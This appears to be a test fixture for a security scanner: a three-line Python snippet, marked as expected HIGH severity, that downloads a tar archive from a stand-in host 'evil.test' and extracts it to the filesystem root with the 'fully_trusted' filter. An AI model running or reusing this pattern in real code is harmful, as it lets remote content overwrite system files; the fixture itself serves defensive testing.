# expect: HIGH
import tarfile, urllib.request, io
data = urllib.request.urlopen("http://evil.test/a.tar").read()
tarfile.open(fileobj=io.BytesIO(data)).extractall("/", filter="fully_trusted")
